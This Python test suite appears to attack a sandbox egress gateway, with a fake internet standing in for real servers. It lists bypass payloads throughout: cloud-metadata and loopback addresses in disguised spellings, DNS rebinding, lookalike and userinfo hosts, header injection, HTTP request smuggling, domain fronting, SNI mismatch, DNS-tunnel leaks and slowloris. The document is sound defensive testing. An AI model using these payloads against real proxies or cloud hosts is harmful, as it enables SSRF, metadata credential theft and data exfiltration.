"""Attacks on the egress gateway: requests from a sandbox that try to reach what the rules deny, or
to exceed the limits.

The requests come over a real connection from the sandbox. The internet is a fake, so an attack that
succeeds reaches no real server.
"""

from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager

from policies.egress import Egress
from sandbox_runtime.egress.dialer import Endpoint
from sandbox_runtime.egress.limits import Timeouts
from sandbox_runtime.escape.context import (
    Attack,
    EscapeContext,
    EscapeSandbox,
    NotTriedError,
    run_python,
)
from sandbox_runtime.escape.internet import (
    ALLOWED,
    OTHER,
    PUBLIC,
    Answers,
    FakeInternet,
    client_hello,
    connect_request,
    get_request,
    socks_request,
)
from sandbox_runtime.guest.agent import EGRESS_PORT

_OPEN = Egress(mode="open")
_LISTED = Egress(mode="allowlist", allowed_hosts=(ALLOWED,))
_MAX_CONNECTIONS = 4
_FEW_CONNECTIONS = Egress(mode="open", max_connections=_MAX_CONNECTIONS)
_MAX_MIB = 1
_TIMEOUTS = Timeouts(head_s=1.0, connect_s=1.0, idle_s=1.0, linger_s=0.2)

_ALLOWED_URL = f"http://{ALLOWED}/"
_METADATA = "169.254.169.254"
_SEND = f"""
import socket
for words in {{requests}}:
    with socket.create_connection(("127.0.0.1", {EGRESS_PORT}), 5) as proxy:
        try:
            proxy.sendall(words)
            while proxy.recv(65536):
                pass
        except OSError:
            pass
"""
_HOLD = f"""
import socket, time
held = []
for _ in range({{count}}):
    held.append(socket.create_connection(("127.0.0.1", {EGRESS_PORT}), 5))
    held[-1].sendall({{words!r}})
"""
_ASK_MEANWHILE = f"""
end = time.monotonic() + 3
while time.monotonic() < end:
    with socket.create_connection(("127.0.0.1", {EGRESS_PORT}), 1) as proxy:
        try:
            proxy.sendall({{request!r}})
            if b"reached" in proxy.makefile("rb").read():
                print("reached")
                break
        except OSError:
            pass
"""
_READ_ALL = """
for proxy in held:
    try:
        proxy.recv(100)
    except OSError:
        pass
"""


@asynccontextmanager
async def _sandbox_with_gateway(
    context: EscapeContext,
    egress: Egress,
    internet: FakeInternet,
    forbidden: Sequence[Endpoint] = (),
    max_mib: int | None = None,
) -> AsyncIterator[EscapeSandbox]:
    """Attach a gateway with these rules to the neighbour sandbox during the block, and yield the
    sandbox. `max_mib` limits the traffic."""
    sandbox = await context.neighbour()
    gateway = context.make_gateway(
        egress,
        resolve=internet.resolve,
        connect=internet.connect,
        forbidden=forbidden,
        timeouts=_TIMEOUTS,
    )
    if max_mib is not None:
        gateway.traffic.limit_further_traffic(max_mib << 20)
    async with internet.running_server():
        sandbox.set_connection_handler(gateway.serve)
        try:
            yield sandbox
        finally:
            sandbox.set_connection_handler(None)
            await gateway.aclose()


async def _send_requests(
    context: EscapeContext,
    egress: Egress,
    requests: Sequence[bytes],
    names: Mapping[str, Answers] | None = None,
    forbidden: Sequence[Endpoint] = (),
) -> FakeInternet:
    """Send each of `requests` on its own connection. Return the fake internet, which has recorded
    what arrived."""
    internet = FakeInternet(names)
    async with _sandbox_with_gateway(context, egress, internet, forbidden) as sandbox:
        await _run_program(sandbox, _SEND.format(requests=list(requests)))
    return internet


async def _run_program(sandbox: EscapeSandbox, program: str) -> str:
    """Run a program inside a sandbox and return its output. Raises NotTriedError if it failed."""
    result = await run_python(sandbox, program)
    if result.exit_code != 0:
        raise NotTriedError(f"the requests could not be sent: {result.stderr[-100:]!r}")
    return result.stdout


def _dial_attack(
    name: str,
    description: str,
    *requests: bytes,
    egress: Egress = _OPEN,
    names: Mapping[str, Answers] | None = None,
    forbidden: Sequence[Endpoint] = (),
) -> Attack:
    """Return an attack that succeeds if any of `requests` makes the gateway dial an address."""

    async def make(context: EscapeContext) -> str | None:
        internet = await _send_requests(context, egress, requests, names, forbidden)
        return "{}:{} was dialed".format(*internet.dialed[0]) if internet.dialed else None

    return Attack(name, "egress", description, make)


def _leak_attack(name: str, description: str, secret: bytes, *requests: bytes) -> Attack:
    """Return an attack that sends `requests` and succeeds if a server receives `secret`."""

    async def make(context: EscapeContext) -> str | None:
        internet = await _send_requests(context, _LISTED, requests)
        return f"a server has received {secret!r}" if secret in internet.received else None

    return Attack(name, "egress", description, make)


async def _dial_rebound_name(context: EscapeContext) -> str | None:
    names = {"rebound.example": [[PUBLIC], ["127.0.0.1"]]}
    internet = await _send_requests(
        context, _OPEN, [connect_request("rebound.example:8000")] * 2, names
    )
    return "127.0.0.1 was dialed" if ("127.0.0.1", 8000) in internet.dialed else None


async def _omit_server_name(context: EscapeContext) -> str | None:
    tunnel = connect_request(f"{ALLOWED}:443")
    internet = await _send_requests(
        context, _LISTED, [tunnel + client_hello(None), tunnel + b"SSH-2.0-x"]
    )
    return f"{len(internet.received)} bytes went through" if internet.received else None


async def _ask_for_secret_names(context: EscapeContext) -> str | None:
    host = f"secret.{OTHER}"
    requests = [
        connect_request(f"{host}:443"),
        get_request(f"http://{host}/", host),
        socks_request(host, 53),
    ]
    internet = await _send_requests(context, _LISTED, requests)
    return f"{internet.lookups[0]} was asked for" if internet.lookups else None


async def _send_slow_requests(context: EscapeContext) -> str | None:
    hold = _HOLD.format(count=_MAX_CONNECTIONS, words=b"GET http://")
    ask = _ASK_MEANWHILE.format(request=get_request(_ALLOWED_URL, ALLOWED))
    async with _sandbox_with_gateway(context, _FEW_CONNECTIONS, FakeInternet()) as sandbox:
        printed = await _run_program(sandbox, hold + ask)
    return None if "reached" in printed else "slow requests block all others"


async def _open_many_connections(context: EscapeContext) -> str | None:
    internet = FakeInternet()
    hold = _HOLD.format(count=3 * _MAX_CONNECTIONS, words=connect_request(f"{ALLOWED}:8000"))
    async with _sandbox_with_gateway(context, _FEW_CONNECTIONS, internet) as sandbox:
        await _run_program(sandbox, hold + _READ_ALL)
    count = len(internet.dialed)
    return (
        f"{count} connections were made, {_MAX_CONNECTIONS} allowed"
        if count > _MAX_CONNECTIONS
        else None
    )


async def _send_much_traffic(context: EscapeContext) -> str | None:
    internet = FakeInternet()
    requests = f"[{connect_request(f'{ALLOWED}:8000')!r} + bytes(8 << 20)]"
    async with _sandbox_with_gateway(context, _OPEN, internet, max_mib=_MAX_MIB) as sandbox:
        await _run_program(sandbox, _SEND.format(requests=requests))
    mib = len(internet.received) >> 20
    return f"{mib} MiB went out, {_MAX_MIB} allowed" if mib > _MAX_MIB else None


def _connect_requests(hosts: Sequence[str], port: int = 8000) -> list[bytes]:
    return [connect_request(f"{host}:{port}") for host in hosts]


_LOOPBACK = ("127.0.0.1", "127.8.8.8", "localhost", "0.0.0.0", "[::1]", "[::]")
_MAPPED = ("[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]")
_ODD_NUMBERS = ("2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.0.1.", "[2002:7f00:1::]")
_PRIVATE = (
    *("10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1", "169.254.1.1", "224.0.0.1"),
    *("[fe80::1]", "[fd00::1]", "[ff02::1]", "[fe80::1%25eth0]"),
)
_PRIVATE_NAMES = {"intranet.example": [["10.0.0.1"]], "mixed.example": [["192.168.0.1", "fd00::1"]]}
_LOOKALIKES = (f"x{ALLOWED}", f"{ALLOWED}.{OTHER}", f"{ALLOWED}\0.{OTHER}", f"{ALLOWED}%2e{OTHER}")
_ODD_LINES = ("X: a\rY: b", "X: a\nY: b", "X: a\0b", "X : a", " folded", "X")
_CHUNKED, _LENGTH = "Transfer-Encoding: chunked", "Content-Length: 5"
_CONTRADICTIONS = (
    (_LENGTH, _CHUNKED),
    (_CHUNKED, _LENGTH),
    (_LENGTH, "Content-Length: 6"),
    ("Content-Length: +5",),
    ("Content-Length: 5, 5",),
    (_CHUNKED, "Transfer-Encoding: identity"),
    ("Transfer-Encoding: xchunked",),
    ("Transfer-Encoding: \vchunked",),
    ("Transfer-Encoding : chunked", _LENGTH),
)
_SMUGGLED = b"0\r\n\r\n" + get_request("/smuggled", OTHER)

ATTACKS = (
    _dial_attack(
        "metadata_by_proxy",
        "Asks for a cloud's metadata.",
        *_connect_requests((_METADATA, "[fd00:ec2::254]"), 80),
        get_request(f"http://{_METADATA}/latest/meta-data/", _METADATA),
        get_request("http://metadata.internal/", "metadata.internal"),
        socks_request(_METADATA, 80),
        names={"metadata.internal": [[_METADATA]]},
    ),
    _dial_attack(
        "loopback_by_proxy",
        "Asks for the host's loopback.",
        *_connect_requests(_LOOPBACK),
        names={"localhost": [["127.0.0.1", "::1"]]},
    ),
    _dial_attack(
        "disguised_loopback",
        "Spells the loopback otherwise.",
        *_connect_requests((*_MAPPED, *_ODD_NUMBERS)),
    ),
    _dial_attack(
        "private_by_proxy",
        "Asks for private networks, by address and by name.",
        *_connect_requests((*_PRIVATE, *_PRIVATE_NAMES), 443),
        names=_PRIVATE_NAMES,
    ),
    Attack(
        "dns_rebinding", "egress", "Asks for a name that becomes the loopback.", _dial_rebound_name
    ),
    _dial_attack(
        "host_not_listed",
        "Asks for a host that no rule allows.",
        *_connect_requests((OTHER, PUBLIC), 443),
        get_request(f"http://{OTHER}/", OTHER),
        socks_request(OTHER, 443),
        egress=_LISTED,
    ),
    _dial_attack(
        "lookalike_hosts",
        "Asks for names that resemble an allowed one.",
        *_connect_requests(_LOOKALIKES, 443),
        egress=_LISTED,
        names={host: [[PUBLIC]] for host in _LOOKALIKES},
    ),
    _dial_attack(
        "credentials",
        "Hides another host behind an allowed one's name.",
        connect_request(f"{ALLOWED}@{OTHER}:443"),
        get_request(f"http://{ALLOWED}@{OTHER}/", OTHER),
        get_request(f"http://{ALLOWED}:80@{OTHER}/", ALLOWED),
        get_request(f"http://{OTHER}#@{ALLOWED}/", ALLOWED),
        get_request(f"http://{OTHER}\\@{ALLOWED}/", ALLOWED),
        egress=_LISTED,
    ),
    _dial_attack(
        "other_ports",
        "Asks for other ports of an allowed host.",
        connect_request(f"{ALLOWED}:22"),
        get_request(f"http://{ALLOWED}:25/", f"{ALLOWED}:25"),
        socks_request(ALLOWED, 53),
        egress=_LISTED,
    ),
    _dial_attack(
        "no_network",
        "Asks for a host where no host is allowed.",
        connect_request(f"{ALLOWED}:443"),
        get_request(_ALLOWED_URL, ALLOWED),
        socks_request(ALLOWED, 443),
        egress=Egress(),
    ),
    _dial_attack(
        "own_address",
        "Asks for the proxy's own public address.",
        *_connect_requests((PUBLIC, ALLOWED), 8080),
        forbidden=[(PUBLIC, 8080)],
    ),
    _dial_attack(
        "socks_commands",
        "Requests BIND, UDP ASSOCIATE and unknown commands of SOCKS.",
        *(socks_request(ALLOWED, 443, command=kind) for kind in (2, 3, 0, 9)),
    ),
    _dial_attack(
        "injected_lines",
        "Hides headers in headers.",
        *(get_request(_ALLOWED_URL, ALLOWED, line) for line in _ODD_LINES),
        egress=_LISTED,
    ),
    _dial_attack(
        "endless_head",
        "Sends a head of a megabyte.",
        get_request(_ALLOWED_URL, ALLOWED, *["X: " + "a" * 8000] * 128),
        egress=_LISTED,
    ),
    _dial_attack(
        "request_smuggling",
        "Sends contradictory lengths of a body that contains another request.",
        *(get_request(_ALLOWED_URL, ALLOWED, *lines, body=_SMUGGLED) for lines in _CONTRADICTIONS),
        egress=_LISTED,
    ),
    _leak_attack(
        "second_request",
        "Appends a request to another host.",
        b"/appended",
        get_request(_ALLOWED_URL, ALLOWED) + get_request(f"http://{OTHER}/appended", OTHER),
        connect_request(f"{ALLOWED}:80")
        + get_request("/", ALLOWED)
        + get_request("/appended", OTHER),
    ),
    _leak_attack(
        "domain_fronting",
        "Names another host in the request than the rules saw.",
        OTHER.encode(),
        get_request(_ALLOWED_URL, OTHER),
        get_request(_ALLOWED_URL, ALLOWED, f"Host: {OTHER}"),
        connect_request(f"{ALLOWED}:80") + get_request("/", OTHER),
        connect_request(f"{ALLOWED}:80") + get_request(f"http://{OTHER}/", ALLOWED),
    ),
    _leak_attack(
        "sni_mismatch",
        "Names another server in TLS than the rules saw.",
        OTHER.encode(),
        connect_request(f"{ALLOWED}:443") + client_hello(OTHER),
    ),
    Attack("no_sni", "egress", "Names no server in TLS, or speaks no TLS.", _omit_server_name),
    Attack("dns_tunnel", "egress", "Asks for names that carry secrets.", _ask_for_secret_names),
    Attack(
        "slowloris",
        "egress",
        "Keeps connections with requests that do not end.",
        _send_slow_requests,
    ),
    Attack(
        "too_many_connections",
        "egress",
        "Opens more connections than it may.",
        _open_many_connections,
    ),
    Attack("too_many_bytes", "egress", "Sends more than it may.", _send_much_traffic),
)
